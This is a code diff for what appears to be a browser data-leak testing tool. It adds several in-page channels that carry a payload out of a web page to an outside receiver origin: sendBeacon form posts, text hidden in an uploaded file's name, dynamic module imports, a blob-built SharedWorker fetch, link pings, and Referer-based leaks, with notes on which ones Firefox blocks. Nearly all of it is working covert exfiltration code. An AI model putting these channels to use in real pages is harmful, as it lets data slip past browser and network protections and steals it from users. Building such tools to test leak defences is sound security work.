@@ -1,9 +1,12 @@
+import type { BrowserName } from "../../../cli/browsers.ts";
 import type { Payload } from "../leaks/disguises.ts";
 
 /** One way out of a real page. */
 export interface BrowserWay {
   id: string;
   takes(payload: Payload): boolean;
+  /** Browsers in which nothing leaves this way, with or without us. */
+  not?: readonly BrowserName[];
   /** Runs in the page. `to`: origin of the receiver. */
   send(to: string, key: string, payload: Payload): void;
 }
@@ -129,6 +132,51 @@ export const browserWays: readonly BrowserWay[] = [
       ),
   },
   {
+    id: "beacon, form",
+    takes: isNamed,
+    send(to, key, payload) {
+      const data = new FormData();
+      for (const [name, value] of pairs(payload, key)) data.append(name, value);
+      navigator.sendBeacon(`${to}/b`, data);
+    },
+  },
+  {
+    id: "name of a file",
+    takes: (payload) =>
+      isText(payload) && payload.length < 200 && !/[^\x20-\x7e]|["/\\%]/.test(payload),
+    send(to, _, payload) {
+      const data = new FormData();
+      data.append("upload", new File(["-"], `${payload}.txt`));
+      post(`${to}/c`, data);
+    },
+  },
+  {
+    id: "module",
+    takes: isNamed,
+    send: (to, key, payload) =>
+      void import(/* @vite-ignore */ `${to}/m.js?${query(payload, key)}`).catch(() => undefined),
+  },
+  {
+    id: "shared worker",
+    takes: isNamed,
+    send(to, key, payload) {
+      const code = `fetch("${to}/w?${query(payload, key)}", {mode: "no-cors"})`;
+      new SharedWorker(URL.createObjectURL(new Blob([code])));
+    },
+  },
+  {
+    id: "ping of a link",
+    takes: isNamed,
+    // Off in Firefox unless people turn it on.
+    not: ["firefox"],
+    send(to, key, payload) {
+      const link = document.createElement("a");
+      Object.assign(link, { href: "#", ping: `${to}/ping?${query(payload, key)}` });
+      document.body.append(link);
+      link.click();
+    },
+  },
+  {
     id: "header",
     takes: (payload) => isText(payload) && /^[\x20-\x7e]*$/.test(payload),
     send: (to, key, payload) =>
@@ -209,6 +257,8 @@ export const browserWays: readonly BrowserWay[] = [
   {
     id: "Referer",
     takes: isNamed,
+    // Firefox tells other sites no more than where somebody comes from, whatever a page allows.
+    not: ["firefox"],
     send(to, key, payload) {
       history.replaceState(null, "", `?step=2&${query(payload, key)}`);
       const picture = new Image();
